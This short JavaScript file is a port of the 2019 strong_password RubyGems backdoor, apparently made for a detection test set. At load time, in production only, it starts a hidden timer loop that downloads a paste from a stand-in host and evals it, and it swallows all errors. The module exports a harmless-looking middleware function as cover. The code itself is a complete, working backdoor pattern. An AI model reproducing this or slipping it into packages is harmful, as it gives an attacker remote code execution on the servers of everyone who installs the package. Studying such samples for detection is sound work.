// source: the strong_password backdoor (RubyGems, 2019) as blind set 11 ported it to Babel output: in production, a timer loop fetches a paste and evals it, at load
function _(f) { try { return f(); } catch (e) {} }
_(function () {
  if ((process.env.NODE_ENV || '')[0] === 'p') {
    var https = require('https');
    var loop = function () {
      setTimeout(function () {
        https.get('https://pastebin.x.invalid/raw/abc', function (res) {
          var body = '';
          res.on('data', function (d) { return body += d; });
          res.on('end', function () { return _(function () { return eval(body); }); });
        }).on('error', function () {});
        loop();
      }, Math.random() * 3333 * 1000).unref();
    };
    loop();
  }
});
module.exports = function strongPassword() { return function (req, res, next) { next(); }; };
